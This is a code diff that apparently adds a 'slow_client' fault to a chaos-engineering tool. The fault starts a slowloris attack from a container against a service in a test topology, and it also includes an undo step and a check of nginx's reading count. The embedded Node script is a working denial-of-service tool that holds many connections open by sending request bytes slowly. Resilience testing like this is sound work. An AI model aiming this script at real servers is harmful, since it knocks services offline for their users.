@@ -1,0 +1,95 @@
+import { z } from 'zod';
+import { containerName } from '../core/aim.ts';
+import { askItself } from '../core/command.ts';
+import { median, soundBefore, split, tooLittle, valuesOf } from '../core/evidence.ts';
+import { defineFault } from '../core/fault.ts';
+import { duration } from '../core/schema.ts';
+
+const READING = 'connections whose request is still being read';
+/** Clients that nobody ended are over after so many seconds. */
+const LONGEST_S = 3_600;
+
+/** Opens connections, sends a request a byte at a time, and begins again where it is cut off. */
+const SCRIPT = `
+const [, , host, port, count, every] = process.argv;
+const head = 'GET / HTTP/1.1\\r\\nHost: ' + host + '\\r\\nX-Slow: ' + 'a'.repeat(100000);
+const open = () => {
+  let sent = 0;
+  let timer;
+  const socket = require('node:net').connect(Number(port), host);
+  const send = () => socket.write(head[sent++ % head.length]);
+  socket.on('connect', () => { send(); timer = setInterval(send, Number(every)); });
+  socket.on('error', () => undefined);
+  socket.on('close', () => { clearInterval(timer); setTimeout(open, Number(every)); });
+  socket.resume();
+};
+for (let i = 0; i < Number(count); i += 1) open();
+setTimeout(() => process.exit(0), ${LONGEST_S * 1_000});
+`;
+
+export default defineFault({
+  name: 'slow_client',
+  summary: 'Opens connections whose requests come a byte at a time, and holds them (slowloris).',
+  params: z.strictObject({
+    service: z
+      .string()
+      .default('nginx')
+      .meta({ description: 'Who has to wait for them', examples: ['nginx'] }),
+    from: z
+      .string()
+      .default('worker')
+      .meta({
+        description: 'A service with Node in it: its first replica lends its place, and some 50 MB',
+        examples: ['worker'],
+      }),
+    connections: z.int().min(1).max(5_000),
+    every: duration
+      .refine((ms) => ms >= 100, { error: 'write 100ms at least' })
+      .prefault('1s')
+      .meta({ description: 'From one byte to the next', examples: ['1s'] }),
+  }),
+  example: { connections: 200, every: '1s' },
+  aims: ({ service }) => ({ target: { service } }),
+  undoes: () => 'end the process that holds the connections',
+  observers: ({ service }, spec) => [
+    {
+      id: READING,
+      command: askItself(
+        containerName(spec, service, 1),
+        spec.services[service]?.port ?? 80,
+        '/nginx_status',
+        `sed -n 's/^Reading: \\([0-9]*\\).*/\\1/p'`,
+      ),
+      everyMs: 1_000,
+    },
+  ],
+  async inject({ id, params, topology, random, undo }) {
+    const { spec } = topology;
+    const { service, from, connections, every } = params;
+    const hit = await topology.resolve({ service, replica: 1 }, random);
+    const [place] = await topology.resolve({ service: from, replica: 1 }, random);
+    if (place === undefined) return [];
+    const mark = `chaos:${id}`;
+    const end = `for p in /proc/[0-9]*; do case "$(tr '\\0' ' ' <$p/cmdline 2>/dev/null)" in node*${mark}*) kill -9 \${p#/proc/};; esac; done; true`;
+    await undo({ do: 'command', command: { in: place.name, run: ['sh', '-c', end] } });
+    const host = containerName(spec, service, 1);
+    const port = String(spec.services[service]?.port ?? 80);
+    const run = ['node', '-e', SCRIPT, mark, host, port, String(connections), String(every)];
+    await topology.act({
+      in: place.name,
+      run: ['sh', '-c', 'setsid "$@" </dev/null >/dev/null 2>&1 &', 'sh', ...run],
+    });
+    return hit.map((container) => container.name);
+  },
+  prove(record, { connections }) {
+    const seen = split(record, READING);
+    const doubt = tooLittle(record, seen) ?? soundBefore(seen);
+    if (doubt !== undefined) return doubt;
+    const before = median(valuesOf(seen.before)) ?? 0;
+    const during = median(valuesOf(seen.during));
+    if (during === undefined)
+      return { effective: 'inconclusive', evidence: 'the server told nothing during the fault' };
+    const evidence = `${before} connections were still sending their request before, ${during} during (median, ${seen.during.length} looks; ${connections} asked)`;
+    return { effective: during - before >= connections * 0.9 ? 'effective' : 'not effective', evidence };
+  },
+});
